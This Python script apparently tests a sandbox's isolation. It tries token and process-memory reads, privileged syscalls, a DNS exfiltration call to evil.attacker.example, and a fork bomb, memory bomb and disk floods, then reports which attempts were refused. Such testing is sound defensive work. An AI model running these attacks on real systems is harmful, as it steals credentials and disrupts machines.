"""Hostile code, as a person may approve it by mistake. Prints how each attack ended.

usage: attack.py CODE MODE [NAME=HOST:PORT ...]
"""

import ctypes
import glob
import os
import shutil
import signal
import socket
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
results = {}


def attempt(name, attack):
    try:
        attack()
        results[name] = "SUCCEEDED"
    except Exception as error:
        results[name] = "refused"
        print(name, repr(error), file=sys.stderr)


def call(function, *args):
    if function(*args) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def read(path):
    with open(path, "rb") as file:
        if not file.read(1):
            raise OSError("empty")


def read_token():
    for path in glob.glob("/var/run/secrets/kubernetes.io/serviceaccount/token") + glob.glob("/run/secrets/*/*/token"):
        return read(path)
    raise OSError("no token")


def write(path):
    with open(path, "ab") as file:
        file.write(b"x")


def execute_own_file():
    shutil.copy("/proc/self/exe", "/workspace/own")
    os.chmod("/workspace/own", 0o700)
    pid = os.posix_spawn("/workspace/own", ["own", "-I", "-c", "pass"], {})
    if os.waitpid(pid, 0)[1] != 0:
        raise OSError("it did not run")


def link_into_inputs():
    os.symlink("/etc/passwd", "/inputs/link")


def connect(address):
    host, _, port = address.rpartition(":")
    socket.create_connection((host, int(port)), timeout=2).close()


def tunnel_by_dns():
    socket.getaddrinfo("c2VjcmV0." + str(os.getpid()) + ".evil.attacker.example", 80)


def trace_another_process():
    child = os.fork()
    if child == 0:
        time.sleep(60)
        os._exit(0)
    try:
        ptrace_attach = 16
        call(libc.ptrace, ptrace_attach, child, 0, 0)
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def here():
    clone_newuser, clone_newnet = 0x10000000, 0x40000000
    attempt("read a token", read_token)
    attempt("read the runner's memory", lambda: read("/proc/1/environ"))
    attempt("overwrite the code", lambda: write("/airlock/main.py"))
    attempt("write into the image", lambda: write("/usr/own"))
    attempt("write into the inputs", link_into_inputs)
    attempt("write into shared memory", lambda: write("/dev/shm/own"))
    attempt("write the report", lambda: write("/dev/termination-log"))
    attempt("execute a file of its own", execute_own_file)
    attempt("become root", lambda: os.setuid(0))
    attempt("trace a process", trace_another_process)
    attempt("open a raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
    attempt("open a packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close())
    attempt("mount", lambda: call(libc.mount, b"none", b"/tmp", b"tmpfs", 0, None))
    attempt("make a device", lambda: os.mknod("/tmp/device", 0o020600, os.makedev(1, 1)))
    attempt("unshare its users", lambda: call(libc.unshare, clone_newuser))
    attempt("unshare its network", lambda: call(libc.unshare, clone_newnet))
    if os.getpid() != 1:
        attempt("ask the runner to stop", lambda: os.kill(1, signal.SIGTERM))


def reach():
    attacks = {name: lambda address=address: connect(address) for name, address in (arg.split("=") for arg in sys.argv[3:])}
    attacks["send by DNS"] = tunnel_by_dns
    threads = [threading.Thread(target=attempt, args=item) for item in attacks.items()]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def all_at_once():
    reach()
    here()
    for name in sorted(results):
        print(name + ": " + results[name])


def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def memory_bomb():
    hoard = []
    while True:
        hoard.append(bytearray(os.urandom(1 << 20)))


def fill_disk():
    for number in range(1 << 20):
        with open(f"/workspace/{number}", "wb") as file:
            for _ in range(8):
                file.write(os.urandom(1 << 20))
        if number >= 16:  # Twice the limit is enough: the machine's disk is not the target.
            time.sleep(1)


def flood_inodes():
    for number in range(1 << 30):
        os.close(os.open(f"/workspace/{number}", os.O_CREAT | os.O_WRONLY))
        if number >= 20000:
            time.sleep(1)


def flood_output():
    for _ in range(64):
        os.write(1, b"\xff\x00\x1b[2J" * (1 << 18))


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()
    print("left a daemon")


{
    "attack": all_at_once,
    "fork-bomb": fork_bomb,
    "memory-bomb": memory_bomb,
    "fill-disk": fill_disk,
    "flood-inodes": flood_inodes,
    "flood-output": flood_output,
    "daemon": daemon,
}[sys.argv[2]]()
